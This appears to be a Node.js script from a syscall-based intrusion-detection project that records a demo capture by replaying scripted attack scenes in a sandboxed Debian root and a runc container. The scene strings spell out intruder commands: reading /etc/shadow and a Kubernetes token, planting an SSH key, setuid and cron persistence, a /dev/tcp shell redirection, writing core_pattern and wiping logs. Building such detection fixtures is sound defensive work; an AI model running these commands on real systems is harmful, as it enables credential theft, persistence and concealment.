// SPDX-License-Identifier: Apache-2.0
/**
 * Makes `rules/demo/recording.scap.gz`, which `npm start` replays where eBPF cannot be used:
 *
 *     node test/e2e/record-demo.mjs ROOT BUSYBOX ACTIONS
 *
 * ROOT is a folder with a bare Debian (debootstrap), BUSYBOX a static busybox, ACTIONS test/rules/actions/actions.c built
 * with -static. The scenes below are played in ROOT and in a container of runc, and only what their processes do is kept:
 * nothing of the machine that records gets into the file.
 */
import { execFileSync, spawnSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { chmodSync, copyFileSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { EVENTS } from '../../dist/events/table.js';
import { interestOf } from '../../dist/sources/interest.js';
import { ScapFile } from '../../dist/sources/scap-writer.js';
import { SyscallSource } from '../../dist/sources/syscall.js';
import { State } from '../../dist/state/state.js';
import { HOST_CONTAINER, UserTable } from '../../dist/state/users.js';

const OUT = fileURLToPath(new URL('../../rules/demo/recording.scap.gz', import.meta.url));
const [debian, busybox, actions] = process.argv.slice(2);

/** Ordinary work first, so that a reader sees silence where silence belongs; then an intruder. */
const HOST_SCENE = `
ls /etc > /dev/null
id root > /dev/null
cat /etc/hostname /etc/os-release > /dev/null
grep root /etc/passwd > /dev/null
cat /etc/shadow > /dev/null
grep -r 'BEGIN OPENSSH PRIVATE KEY' /root
echo 'ssh-ed25519 AAAAC3Nza intruder' >> /root/.ssh/authorized_keys
cp /usr/local/lib/payload /dev/shm/.x
/dev/shm/.x
cp /usr/local/lib/payload /usr/bin/systemd-helper
ln -s /usr/bin/systemd-helper /usr/sbin/helper
chmod u+s /usr/bin/systemd-helper
echo '@reboot root /usr/bin/systemd-helper' > /etc/cron.d/helper
/usr/local/lib/payload memfd-exec
bash -c 'exec 0<>/dev/tcp/127.0.0.1/4444'
cp /dev/null /var/log/wtmp
rm /root/.bash_history
`;

const CONTAINER_SCENE = `
/bin/cat /etc/passwd > /dev/null
/bin/cat /var/run/secrets/kubernetes.io/serviceaccount/token > /dev/null
/bin/cp /bin/payload /tmp/miner
/tmp/miner
/bin/nc -w 1 127.0.0.1 8080
/bin/mount -t tmpfs none /mnt
exec 3> /proc/sys/kernel/core_pattern
exec 3>&-
/bin/nsenter -t $$ -u /bin/true
/bin/true
`;

/** The processes of a scene: the one that executes a program with this word among its arguments, and all that come of it. */
const MARK = Buffer.from('--as-recorded');

class Recorder {
  scenes = new Set();

  constructor(path) {
    const users = new UserTable();
    users.load(HOST_CONTAINER, 'root:x:0:0:root:/root:/bin/bash\n', 'root:x:0:\n');
    this.state = new State({ users });
    this.file = new ScapFile(path);
    this.file.begin(this.state, { cpus: 2, memoryBytes: 4n << 30n, maxPid: 4194304n, hostname: 'demo', bootTs: 0n });
  }

  take(view) {
    const { key } = EVENTS[view.type];
    if (key.startsWith('SYSCALL_EXECVE') && Buffer.from(view.block()).includes(MARK)) this.scenes.add(view.tid);
    // A child's first event is its side of the fork, which names its parent.
    else if (/CLONE|FORK/.test(key) && this.scenes.has(Number(Buffer.from(view.raw(5)).readBigInt64LE()))) this.scenes.add(view.tid);
    if (this.scenes.has(view.tid)) this.file.event(view);
  }
}

const work = mkdtempSync(join(tmpdir(), 'record-'));
const run = (command, args, options = {}) => execFileSync(command, args, { stdio: ['ignore', 'inherit', 'inherit'], ...options });

function prepareHost() {
  const root = join(work, 'root');
  run('cp', ['-a', debian, root]);
  writeFileSync(join(root, 'etc/hostname'), 'demo\n');
  mkdirSync(join(root, 'root/.ssh'), { recursive: true });
  mkdirSync(join(root, 'etc/cron.d'), { recursive: true });
  writeFileSync(join(root, 'root/.bash_history'), 'ls\n');
  writeFileSync(join(root, 'root/install.sh'), HOST_SCENE);
  copyFileSync(actions, join(root, 'usr/local/lib/payload'));
  chmodSync(join(root, 'usr/local/lib/payload'), 0o755);
  return root;
}

function playHost(root) {
  // pivot_root, so that programs have the paths of a machine of their own; out of any control group; and a clean environment.
  const enter = join(work, 'enter.sh');
  writeFileSync(enter, `set -e
for procs in /sys/fs/cgroup/*/cgroup.procs /sys/fs/cgroup/cgroup.procs; do [ ! -f "$procs" ] || echo $$ > "$procs"; done
mount --bind ${root} ${root}
cd ${root}
mount -t proc proc proc
mount -t tmpfs none dev
mkdir -p dev/shm dev/old
mknod -m 666 dev/null c 1 3
hostname demo
pivot_root . dev/old
cd /
umount -l /dev/old
unset PWD OLDPWD
exec /bin/bash /root/install.sh --as-recorded
`);
  const env = { PATH: '/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin', HOME: '/root' };
  spawnSync('unshare', ['--mount', '--uts', '--ipc', '--propagation', 'private', 'sh', enter], { stdio: 'inherit', cwd: '/', env });
}

function playContainer() {
  const id = randomBytes(32).toString('hex');
  const dir = join(work, 'container');
  const image = join(dir, 'image');
  for (const path of ['bin', 'dev', 'etc', 'proc', 'sys', 'tmp', 'mnt', 'var/run/secrets/kubernetes.io/serviceaccount']) mkdirSync(join(image, path), { recursive: true });
  copyFileSync(busybox, join(image, 'bin/busybox'));
  copyFileSync(actions, join(image, 'bin/payload'));
  for (const name of ['sh', 'cat', 'cp', 'nc', 'mount', 'nsenter', 'true']) symlinkSync('busybox', join(image, 'bin', name));
  writeFileSync(join(image, 'etc/passwd'), 'root:x:0:0:root:/root:/bin/sh\n');
  writeFileSync(join(image, 'var/run/secrets/kubernetes.io/serviceaccount/token'), 'none\n');
  writeFileSync(join(image, 'entry.sh'), CONTAINER_SCENE);
  for (const path of ['upper', 'work', 'rootfs']) mkdirSync(join(dir, path));
  run('mount', ['-t', 'overlay', 'overlay', '-o', `lowerdir=${image},upperdir=${join(dir, 'upper')},workdir=${join(dir, 'work')}`, join(dir, 'rootfs')]);
  const capabilities = ['CAP_SYS_ADMIN', 'CAP_SYS_PTRACE', 'CAP_DAC_OVERRIDE', 'CAP_MKNOD'];
  writeFileSync(join(dir, 'config.json'), JSON.stringify({
    ociVersion: '1.0.2',
    process: {
      terminal: true, user: { uid: 0, gid: 0 }, args: ['/bin/sh', '/entry.sh', '--as-recorded'], env: ['PATH=/bin', 'HOME=/root'], cwd: '/',
      capabilities: { bounding: capabilities, effective: capabilities, permitted: capabilities },
    },
    root: { path: join(dir, 'rootfs') },
    hostname: 'web',
    mounts: [
      { destination: '/proc', type: 'proc', source: 'proc' },
      { destination: '/dev', type: 'tmpfs', source: 'tmpfs', options: ['mode=755'] },
      { destination: '/dev/pts', type: 'devpts', source: 'devpts', options: ['newinstance', 'ptmxmode=0666'] },
    ],
    linux: { cgroupsPath: `/docker/${id}`, namespaces: ['mount', 'uts', 'ipc', 'network', 'pid'].map((type) => ({ type })) },
  }));
  spawnSync('script', ['-qec', `runc run --bundle ${dir} ${id}`, '/dev/null'], { stdio: 'inherit' });
  spawnSync('umount', [join(dir, 'rootfs')]);
}

const root = prepareHost();
const server = createServer((socket) => socket.destroy()).listen(4444, '127.0.0.1');
const recorder = new Recorder(OUT);
const source = new SyscallSource({ interest: interestOf('all') });
await source.start((view) => recorder.take(view));
const pause = () => new Promise((resolve) => setTimeout(resolve, 500));
await pause();
playHost(root);
await pause();
playContainer();
await pause();
await source.stop();
server.close();
recorder.file.close();
chmodSync(OUT, 0o644);
rmSync(work, { recursive: true, force: true });
process.stdout.write(`${OUT}: ${recorder.file.events} events, ${recorder.file.bytes} bytes\n`);
